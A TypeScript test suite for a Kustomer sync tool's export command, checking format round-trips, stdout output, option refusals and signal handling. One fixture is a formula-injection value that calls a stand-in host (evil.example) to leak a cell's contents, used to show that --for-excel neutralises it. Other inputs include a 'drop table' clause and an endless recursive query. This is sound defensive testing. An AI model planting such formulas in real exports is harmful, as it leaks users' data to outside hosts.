/** Exports by the real program, read back by other programs' readers, value by value. */
import { Database } from "bun:sqlite";
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { parseJson } from "../../src/lib/json.ts";
import { STREAMS } from "../../src/streams/index.ts";
import { changeFile } from "../export/fixture.ts";
import { put, resource } from "../store/fixture.ts";
import { type Ended, PROGRAM, run, start, temporaryFolder } from "./program.ts";
import {
  cellsApart,
  manifestOf,
  readByDuckdb,
  readCsv,
  readFile,
  readNdjson,
  readParquet,
  withoutHalves,
} from "./readers.ts";
import { FAST, startLocalSandbox } from "./relay.ts";

const folder = temporaryFolder();
afterAll(folder.remove);
const db = join(folder.path, "kustomer.db");
let count = 0;
const newFolder = () => join(folder.path, `out ${++count}`);

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"click")';

/** What is odd about attributes, and no row of the sandbox has. */
const ODD: Record<string, string>[] = [
  { name: '"a\\u0000b\\u0001\\"c"', body: `"${"x".repeat(1_000_000)}é"` },
  {
    name: '""',
    preview: '" a, \\"b\\"\\r\\nc\\n"',
    "half\\ud800": '"\\ud800"',
    company: '{"half":"\\ude00"}',
  },
  { rev: "9007199254740993", custom: '{"big":12345678901234567890,"over":1e309,"lines":"a\\nb"}' },
  { rev: "9223372036854775807", newOne: "9007199254740993", newReal: "5" },
  { rev: "-9223372036854775808", newReal: "0.1", newBool: "true" },
  { newReal: "1e300", newBool: "false", newAt: '"2026-11-23T01:02:03.004Z"', "=odd, name": '"odd"' },
  { name: JSON.stringify(FORMULA), over: "1e309", newJson: '[1,{"a":null}]', "2": '"two"' },
];

beforeAll(async () => {
  await using sandbox = await startLocalSandbox({ rows: 3_000 });
  const synced = await run(["sync", "--quiet", "--db", db, ...FAST], { cwd: folder.path, env: sandbox.env });
  expect(synced.code).toBe(0);
  changeFile(db, (store) => {
    const rows = ODD.map((attributes, index) => {
      const text = Object.entries(attributes).map(([name, value]) => `"${name}":${value}`);
      return resource(`odd ${index}`, parseJson(`{${text.join(",")}}`) as Record<string, unknown>);
    });
    put(store, "customers", rows);
  });
}, 60_000);

function exporting(args: readonly string[], file = db): Promise<Ended> {
  return run(["export", "--db", file, ...args], { cwd: folder.path });
}

async function exported(args: readonly string[]) {
  const out = newFolder();
  const ended = await exporting(["--out", out, "--quiet", ...args]);
  expect([ended.code, ended.stderr]).toEqual([0, ""]);
  return { out, manifest: manifestOf(out), stdout: ended.stdout };
}

/** Which rows come where nobody says: of what others look up the deleted ones, too. */
const isComing = ({ stream }: { stream: string }) =>
  ["users", "teams", "tags", "shortcuts"].includes(stream) ? "TRUE" : "_deleted_at IS NULL";

describe("read back by others, every value of every column is as in the file", () => {
  test("CSV, by csv-parse and by DuckDB", async () => {
    const { out, manifest } = await exported(["--include-deleted"]);
    expect(manifest.streams.map(({ stream }) => stream)).toEqual(STREAMS.map(({ name }) => name));
    for (const stream of manifest.streams) {
      const held = readFile(db, stream);
      expect([stream.stream, stream.rows]).toEqual([stream.stream, held.size]);
      expect(cellsApart(stream.columns, held, readCsv(out, stream))).toEqual([]);
      expect(cellsApart(stream.columns, held, await readByDuckdb(out, stream, "csv"))).toEqual([]);
    }
  }, 60_000);

  test("NDJSON in row groups, line by line and by DuckDB", async () => {
    const { out, manifest } = await exported(["--format", "ndjson", "--row-group-rows", "200"]);
    for (const stream of manifest.streams) {
      const held = withoutHalves(readFile(db, stream, isComing(stream)));
      expect([stream.stream, stream.rows, stream.files.length]).toEqual([
        stream.stream,
        held.size,
        Math.max(1, Math.ceil(held.size / 200)),
      ]);
      expect(cellsApart(stream.columns, held, readNdjson(out, stream))).toEqual([]);
      expect(cellsApart(stream.columns, held, await readByDuckdb(out, stream, "json"))).toEqual([]);
    }
  }, 60_000);

  test.each([
    ["zstd, unless told", []],
    ["gzip, in row groups", ["--compress", "gzip", "--row-group-rows", "200"]],
    ["nothing, by month", ["--compress", "none", "--partition-by", "month", "--include-deleted"]],
  ])(
    "Parquet packed with %s, by hyparquet and by DuckDB, its types included",
    async (_, args) => {
      const { out, manifest } = await exported(["--format", "parquet", ...args]);
      for (const stream of manifest.streams) {
        const where = args.includes("--include-deleted") ? "TRUE" : isComing(stream);
        const held = withoutHalves(readFile(db, stream, where));
        expect([stream.stream, stream.rows]).toEqual([stream.stream, held.size]);
        expect(cellsApart(stream.columns, held, await readParquet(out, stream))).toEqual([]);
        expect(cellsApart(stream.columns, held, await readByDuckdb(out, stream, "parquet"))).toEqual([]);
      }
    },
    60_000,
  );

  test("packed and by month, and the folders say the month", async () => {
    const { out, manifest } = await exported([
      "conversations",
      "--partition-by",
      "month",
      "--compress",
      "zstd",
      "--format",
      "ndjson",
    ]);
    const [stream] = manifest.streams;
    const held = readFile(db, stream!, "_deleted_at IS NULL");
    expect(cellsApart(stream!.columns, held, await readByDuckdb(out, stream!, "json"))).toEqual([]);
    const created = stream!.columns.findIndex(({ name }) => name === "created_at");
    const months = [...held.values()].map((row) => row[created]?.slice(0, 7) ?? null);
    const counts = new Map<string | null, number>();
    for (const month of months) counts.set(month, (counts.get(month) ?? 0) + 1);
    expect(
      new Map(stream!.files.map(({ rows, partition }) => [partition?.created_month ?? null, rows])),
    ).toEqual(counts);
  }, 60_000);
});

test("a customer's formula is left as it is, and with --for-excel does not run", async () => {
  const { out: plain } = await exported(["customers"]);
  const guarded = newFolder();
  const ended = await exporting(["customers", "--for-excel", "--out", guarded, "--quiet", "--json"]);
  // One of the odd rows has a text of a million characters.
  const cut = "customers: 1 cell was cut at 32,767 characters, the most that a cell of a spreadsheet holds\n";
  expect([ended.code, ended.stderr]).toEqual([0, `warn: ${cut}`]);
  expect(JSON.parse(ended.stdout).streams[0].cut_cells).toBe(1);
  const piped = await exporting(["customers", "--for-excel", "--stdout"]);
  // Whoever reads a text here drops its byte-order mark.
  const stdout = readFileSync(join(guarded, "customers.csv"), "utf8").slice(1);
  expect(piped).toEqual({ code: 0, stdout, stderr: `warn: ${cut}` });
  const quoted = FORMULA.replaceAll('"', '""');
  expect(readFileSync(join(plain, "customers.csv"), "utf8")).toContain(`"${quoted}"`);
  const text = readFileSync(join(guarded, "customers.csv"), "utf8");
  expect(text).toContain(`"'${quoted}"`);
  expect([text.startsWith("\ufeffid,"), text.includes(`"${quoted}"`), text.includes(",'=odd")]).toEqual([
    true,
    false,
    false,
  ]);
});

describe("to stdout", () => {
  test("are the bytes that the file would hold, and nothing else", async () => {
    const { out } = await exported(["tags"]);
    const { code, stdout } = await exporting(["tags", "--stdout"]);
    expect([code, stdout]).toEqual([0, readFileSync(join(out, "tags.csv"), "utf8")]);
  });

  test("| head ends it quietly", async () => {
    const command = [...PROGRAM, "export", "conversations", "--stdout", "--format", "ndjson", "--db", db];
    const script = '"$@" | head -1; echo "$PIPESTATUS"';
    const shell = Bun.spawnSync(["bash", "-c", script, "-", ...command], { cwd: folder.path });
    const [line, status] = shell.stdout.toString().split("\n");
    expect(Object.keys(JSON.parse(line!) as object).length).toBeGreaterThan(50);
    expect([status, shell.stderr.toString()]).toEqual(["0", ""]);
  });
});

test("--json is one object, and without it there is a table", async () => {
  const out = newFolder();
  const { stdout, stderr, code } = await exporting(["tags", "teams", "--out", out, "--json"]);
  const { moment, streams, ...rest } = JSON.parse(stdout);
  expect([code, rest, moment]).toEqual([0, { out, format: "csv", left_out: [] }, manifestOf(out).moment]);
  const { rows, bytes } = manifestOf(out).streams[0]!.files[0]!;
  expect(streams[0]).toEqual({
    stream: "tags",
    rows,
    deleted: expect.any(Number),
    files: 1,
    bytes,
    since: null,
  });
  expect(stderr).toContain("tags: done");
  const table = await exporting(["tags", "--out", newFolder()]);
  expect(table.stdout).toMatch(
    /^stream +rows +of them deleted +files +size\ntags +\d+ +\d+ +1 +[\d.]+ kB\n$/,
  );
});

test("a join by which messages get the names of their senders finds those who left, too", async () => {
  const { out } = await exported(["messages", "users", "--columns", "id,created_by_id"]);
  const [messages, users] = manifestOf(out).streams.map((stream) => readCsv(out, stream));
  const file = new Database(db, { readonly: true });
  const [told] = file
    .query<{ all: number; left: number }, []>(
      `SELECT count(*) AS "all", sum(users._deleted_at IS NOT NULL) AS "left" FROM messages
       JOIN users ON users.id = messages.created_by_id WHERE messages._deleted_at IS NULL`,
    )
    .all();
  file.close();
  expect(told!.left).toBeGreaterThan(0);
  expect([...messages!.values()].filter(([, sender]) => users!.has(sender!))).toHaveLength(told!.all);
});

test("a part of a stream, the same in a folder and on stdout", async () => {
  const args = ["customers", "--columns", "rev,id", "--where", "id LIKE 'odd%' AND rev > 0", "--limit", "2"];
  const { out, manifest } = await exported(args);
  const text = readFileSync(join(out, "customers.csv"), "utf8");
  expect(text).toBe("rev,id\r\n9007199254740993,odd 2\r\n9223372036854775807,odd 3\r\n");
  expect(manifest.options).toMatchObject({ columns: ["rev", "id"], where: args[4], limit: 2 });
  expect(await exporting([...args, "--stdout"])).toEqual({ code: 0, stdout: text, stderr: "" });
});

test("a stream that was never synced is left out with a warning, and refused where it is named", async () => {
  const file = join(folder.path, "two.db");
  changeFile(file, (store) => {
    put(store, "tags", [resource("t", { name: "gone", deleted: true })]);
    put(store, "messages", [resource("m")]);
  });
  const out = newFolder();
  const all = await exporting(["--out", out, "--json", "--quiet"], file);
  const left = STREAMS.map(({ name }) => name).filter((name) => !["tags", "messages"].includes(name));
  expect([all.code, JSON.parse(all.stdout).left_out]).toEqual([0, left]);
  expect(all.stderr.trim().split("\n")).toEqual(
    left.map((name) => `warn: ${name}: left out: it was never synced into this file`),
  );
  expect(manifestOf(out).streams.map(({ stream, rows }) => [stream, rows])).toEqual([
    ["messages", 1],
    ["tags", 1],
  ]);
  for (const args of [["--out", newFolder()], ["--stdout"]]) {
    const named = await exporting(["notes", ...args], file);
    expect(named).toEqual({
      code: 2,
      stdout: "",
      stderr:
        "error: export: notes: never synced into this file\n  try: kustomer-sync sync notes, or leave it out\n",
    });
  }
});

const refused: [string, string[]][] = [
  ["--since and --since-last exclude each other", ["--since", "2026-01-01", "--since-last"]],
  ["--since-last and --overwrite exclude each other", ["--since-last", "--overwrite"]],
  ["--for-excel is of CSV", ["--format", "ndjson", "--for-excel"]],
  ["CSV has no row groups", ["--row-group-rows", "10"]],
  ["--stdout and --out exclude each other", ["tags", "--stdout", "--out", "x"]],
  ["--stdout and --partition-by exclude", ["tags", "--stdout", "--partition-by", "day"]],
  ["--stdout and --json exclude", ["tags", "--stdout", "--json"]],
  ["--stdout and --since-last exclude", ["tags", "--stdout", "--since-last"]],
  [`--stdout takes one stream, not ${STREAMS.length}`, ["--stdout"]],
  ["--for-excel is of CSV", ["--format", "parquet", "--for-excel"]],
  ["--include-deleted and --live-only exclude each other", ["--include-deleted", "--live-only"]],
  ["--since-last and --columns exclude each other", ["--since-last", "--columns", "id"]],
  ["--since-last and --where exclude each other", ["--since-last", "--where", "TRUE"]],
  ["--since-last and --limit exclude each other", ["--since-last", "--limit", "5"]],
  ["--since-last and --live-only exclude each other", ["--since-last", "--live-only"]],
  ['tags: it has no column "colour"', ["tags", "--columns", "id,colour"]],
  ['teams: it has no column "color"', ["tags", "teams", "--columns", "id,color"]],
  ['--columns: "," names no column', ["tags", "--columns", ","]],
  ['--limit: "0" is not a whole number of at least 1', ["tags", "--limit", "0"]],
  ["SQLite says: no such column: colour", ["tags", "--where", "colour = 'red'"]],
  ['SQLite says: near "drop": syntax error', ["tags", "--where", "drop table tags"]],
  ["--where: needs a value", ["tags", "--where", ""]],
  ["SQLite says: no such column: colour", ["tags", "--stdout", "--where", "colour = 'red'"]],
  ["SQLite says: bad JSON path", ["tags", "--where", "json_extract(relationships, 'no path')"]],
  ['--format: "xml" is not one of csv', ["--format", "xml"]],
  [
    '--row-group-rows: "0" is not a whole number of at least 1',
    ["--format", "ndjson", "--row-group-rows", "0"],
  ],
  ['STREAM "tickets" is not one of', ["tickets"]],
  ["--skip leaves out every stream", ["tags", "--skip", "tags"]],
  ["this is not a folder", ["--out", db]],
];

test.each(refused)("%s: exit 2, a hint, and nothing is written", async (message, args) => {
  const { path, remove } = temporaryFolder();
  try {
    const { code, stderr } = await run(["export", "--db", db, ...args], { cwd: path });
    expect([code, stderr]).toEqual([2, expect.stringContaining(message)]);
    expect(stderr).toContain("\n  try: ");
    // Bun, which runs the program from source here, keeps what it compiled.
    expect(readdirSync(path).filter((name) => name !== ".bun")).toEqual([]);
  } finally {
    remove();
  }
});

test("without a file there is nothing to export, and no folder is made", async () => {
  const out = newFolder();
  const { code, stderr } = await exporting(["--out", out], join(folder.path, "none.db"));
  expect([code, stderr, existsSync(out)]).toEqual([
    5,
    expect.stringContaining("there is no such file"),
    false,
  ]);
});

test.each(["SIGINT", "SIGTERM"] as const)("%s ends it with 130, and nothing is left", async (signal) => {
  // Nobody reads: the program is in the midst of it for as long as the test likes.
  const process = start(["export", "conversations", "--stdout", "--format", "ndjson", "--db", db], {
    cwd: folder.path,
  });
  const reader = process.stdout.getReader();
  await reader.read();
  process.kill(signal);
  expect(await process.exited).toBe(130);
  expect(await new Response(process.stderr).text()).toContain("try: the same command again");
});

/** Waits until a process has spent a second more: by then it is in the midst of what never ends. */
async function spendsCpu(pid: number): Promise<void> {
  const ticks = () => {
    const [user, system] = readFileSync(`/proc/${pid}/stat`, "utf8")
      .replace(/.*\) /, "")
      .split(" ")
      .slice(11);
    return Number(user) + Number(system);
  };
  const begun = ticks();
  while (ticks() < begun + 100) await Bun.sleep(1);
}

const canWatch = existsSync("/proc/self/stat");

test.skipIf(!canWatch).each(["SIGINT", "SIGTERM"] as const)(
  "%s ends a condition that never would",
  async (signal) => {
    const endless =
      "(WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n) = id";
    const out = newFolder();
    const process = start(["export", "tags", "--where", endless, "--out", out, "--db", db], {
      cwd: folder.path,
    });
    while (!existsSync(out)) await Bun.sleep(1);
    await spendsCpu(process.pid);
    process.kill(signal);
    expect([await process.exited, process.signalCode]).toEqual([130, null]);
    expect(existsSync(out)).toBe(false);
    // And the next one finds nothing in its way.
    const next = await exporting(["tags", "--out", out, "--quiet"]);
    expect([next.code, next.stderr]).toEqual([0, ""]);
    expect(readdirSync(out).sort()).toEqual(["_manifest.json", "tags.csv"]);
  },
);
